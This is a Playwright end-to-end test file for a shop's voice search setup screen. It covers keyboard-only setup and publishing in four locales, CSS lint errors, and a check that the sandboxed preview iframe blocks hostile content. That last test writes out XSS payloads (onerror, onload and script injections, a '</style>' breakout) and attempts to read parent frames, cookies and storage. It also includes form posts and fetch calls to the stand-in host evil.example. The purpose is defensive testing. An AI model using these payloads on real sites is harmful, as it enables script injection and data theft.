import type { Page } from "@playwright/test";
import { setCookies } from "@/e2e/support/cookies";
import { driveSpeech, installFakeRecognition } from "@/e2e/support/fake-speech";
import { expect, makeFreshText, test } from "@/e2e/support/fixtures";
import { waitUntilHydrated } from "@/e2e/support/hydrated";
import { enter, tabTo, typeIn } from "@/e2e/support/keyboard";
import { measureOverflow } from "@/e2e/support/overflow";
import { importShop } from "@/e2e/support/shop";
import { SHOP_ORIGIN } from "@/e2e/support/shop-events";
import { readAreaTexts } from "@/e2e/support/texts";
import { FULL } from "@/e2e/support/tier";
import { LOCALES, type Locale } from "@/lib/contract/kit/locale";
import { VOICE_TEXTS } from "@/lib/domain/voice/voice-defaults";
import type voice from "@/messages/en/voice.json";

// The setup of voice search, from nothing to a spoken query in the shop; and what the preview must not be able to do.

const textsIn = (locale: Locale) => readAreaTexts<typeof voice>(locale, "voice")["voice-search"];
const PHONE = { width: 360, height: 740 };

async function openSetup(page: Page, baseURL: string | undefined, siteId: string, locale: Locale): Promise<void> {
  await setCookies(page.context(), baseURL, { chosen_locale: locale });
  await page.goto(`/sites/${siteId}/setup/voice_search`);
  await expect(page.getByRole("heading", { level: 1 })).toHaveText(textsIn(locale).title);
  await waitUntilHydrated(page);
}

/** The script that shoppers of a site get. */
async function readScript(page: Page, siteId: string): Promise<string> {
  return (await page.request.get(`${SHOP_ORIGIN}/edge/${siteId}/voice.js`)).text();
}

const SPOKEN: Record<Locale, { tag: string; word: string; title: string }> = {
  en: { tag: "en-US", word: "kettle", title: "Kettle made of steel" },
  cs: { tag: "cs-CZ", word: "žehlička", title: "Žehlička s párou" },
  sk: { tag: "sk-SK", word: "rýchlovarná kanvica", title: "Rýchlovarná kanvica z ocele" },
  pl: { tag: "pl-PL", word: "żelazko", title: "Żelazko z parą" },
};

/** Searches the shop by voice, by keyboard alone. */
async function speakInShop(page: Page, siteId: string, locale: Locale): Promise<void> {
  const { tag, word, title } = SPOKEN[locale];
  const texts = VOICE_TEXTS[locale];
  await page.goto(`${SHOP_ORIGIN}/shop/${siteId}`);
  await enter(page, page.getByRole("button", { name: texts?.iconTitle, exact: true }));
  const popup = page.getByRole("dialog", { name: "Mluvte" });
  await expect(popup.getByText(texts?.allowMic ?? "").first()).toBeVisible();
  await driveSpeech(page, "allow");
  expect(await driveSpeech(page, "language")).toBe(tag);
  await expect(popup.getByText(texts?.listening ?? "").first()).toBeVisible();
  expect(await measureOverflow(page)).toBeLessThanOrEqual(0);
  await driveSpeech(page, "hear", word);
  await enter(page, popup.getByRole("button", { name: texts?.stop, exact: true }));
  await page.waitForURL((url) => url.searchParams.get("q") === word);
  await expect(page.locator("#q")).toHaveValue(word);
  await expect(page.locator("a[data-vitrine-item]").filter({ hasText: title }).first()).toBeVisible();
}

for (const locale of LOCALES) {
  test(`from nothing to a spoken query by keyboard on a phone, in ${locale}`, { tag: FULL }, async ({
    page,
    baseURL,
  }) => {
    const t = textsIn(locale);
    const siteId = importShop(makeFreshText("Voice"), { language: locale, more: [SPOKEN[locale].title] });
    await installFakeRecognition(page);
    await page.setViewportSize(PHONE);
    await openSetup(page, baseURL, siteId, locale);

    await typeIn(page, page.getByLabel(t.fields.listening_time), "2000");
    await page.keyboard.press("ControlOrMeta+s");
    const selector = page.getByLabel(t.fields.input_selector);
    await expect(selector).toBeFocused();
    await expect(page.getByText(t.errors.listening_time_range)).toBeVisible();
    await page.keyboard.type("input[name=q]");
    await typeIn(page, page.getByLabel(t.fields.listening_time), "9000");
    await typeIn(page, page.getByLabel(t.texts.heading), "Mluvte");
    await page.keyboard.press("ControlOrMeta+s");
    await expect(page.getByText(t.saved.draft)).toBeVisible();
    expect(await readScript(page, siteId)).not.toContain("Mluvte");
    expect(await measureOverflow(page)).toBeLessThanOrEqual(0);

    await enter(page, page.getByRole("button", { name: t.actions.publish, exact: true }));
    const dialog = page.getByRole("dialog", { name: t.publish.title });
    await typeIn(page, dialog.getByLabel(t.publish.versionTitle, { exact: true }), "First");
    await page.keyboard.press("Enter");
    await expect(dialog).toBeHidden();
    await expect(page.getByText(t.saved.publish)).toBeVisible();

    await enter(page, page.getByRole("switch", { name: t.switch.label }));
    await expect(page.getByText(t.state.on)).toBeVisible();
    await expect.poll(() => readScript(page, siteId)).toContain("Mluvte");
    await speakInShop(page, siteId, locale);
  });
}

// code-editor.test.tsx and voice-search-screen.test.tsx.
test("Tab leaves the code editor, and a refused rule is marked at its line", { tag: FULL }, async ({
  page,
  baseURL,
}) => {
  const t = textsIn("en");
  const siteId = importShop(makeFreshText("Voice code"));
  await openSetup(page, baseURL, siteId, "en");
  await typeIn(page, page.getByLabel(t.fields.input_selector), "input[name=q]");
  const css = page.getByRole("textbox", { name: /^CSS/ });
  await css.scrollIntoViewIfNeeded();
  await expect(css).toHaveClass(/cm-content/);
  await tabTo(page, css);
  await page.keyboard.type("a { color: red }");
  await page.keyboard.press("Enter");
  await page.keyboard.type('@import "https://example.com/a.css";');
  await page.keyboard.press("ControlOrMeta+s");
  await expect(page.getByText(/^Line 2: /)).toBeVisible();
  await expect(css).toBeFocused();
  await expect(page.locator(".cm-lint-marker-error")).toHaveCount(1);
  await page.keyboard.press("Tab");
  await expect(css).not.toBeFocused();
});

/** What a hostile template tries; each part that succeeds adds its name to the title of the frame's page. */
const HOSTILE = `<img src="data:,x" onerror="document.title += ' handler'"><script>document.title += " script"</script>
<svg onload="document.title += ' svg'"></svg><form action="https://evil.example/" method="post"><button>Send</button></form>`;

test("a hostile template and CSS cannot reach the console", async ({ page, baseURL, complaints }) => {
  const t = textsIn("en");
  const siteId = importShop(makeFreshText("Voice attack"));
  const foreign: string[] = [];
  page.on("request", (request) => request.url().includes("evil.example") && foreign.push(request.url()));
  await openSetup(page, baseURL, siteId, "en");
  const frame = page.locator("iframe");
  await expect(frame).toHaveAttribute("sandbox", "allow-scripts");
  const popup = page.getByRole("textbox", { name: t.templates.names["voice-search-popup"] });
  await popup.scrollIntoViewIfNeeded();
  await expect(popup).toHaveClass(/cm-content/);
  await popup.fill(`<p>Hostile</p>${HOSTILE}`);
  const css = page.getByRole("textbox", { name: /^CSS/ });
  await css.fill("</style><script>document.title += ' css'</script> body, html, #main { display: none !important }");
  const inside = page.frameLocator("iframe");
  await expect(inside.getByText("Hostile")).toBeVisible();
  const [, inner] = page.frames();
  if (inner === undefined) throw new Error("the page has no frame");
  expect(await inner.title()).toBe("Preview");
  const tried = await inner.evaluate(() => {
    const attempts = {
      parent: () => parent.document.title,
      location: () => parent.location.href,
      cookie: () => document.cookie,
      localStorage: () => localStorage.length,
      sessionStorage: () => sessionStorage.length,
      indexedDB: () => indexedDB.open("x"),
    };
    return Object.entries(attempts).flatMap(([name, attempt]) => {
      try {
        attempt();
        return [name];
      } catch {
        return [];
      }
    });
  });
  expect(tried).toEqual([]);
  await inside.getByRole("button", { name: "Send" }).click();
  const isSent = await inner.evaluate(async () => {
    document.body.append(
      Object.assign(document.createElement("form"), { action: "https://evil.example/f", method: "post" }),
    );
    document.querySelector("form")?.submit();
    return fetch("https://evil.example/a").then(
      () => true,
      () => false,
    );
  });
  expect(isSent).toBe(false);
  expect(foreign).toEqual([]);
  await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
  // The browser reports what the policy of the frame has blocked; nothing else may have gone wrong.
  expect(complaints.filter((text) => !/Content Security Policy|sandbox/i.test(text))).toEqual([]);
  complaints.length = 0;
});
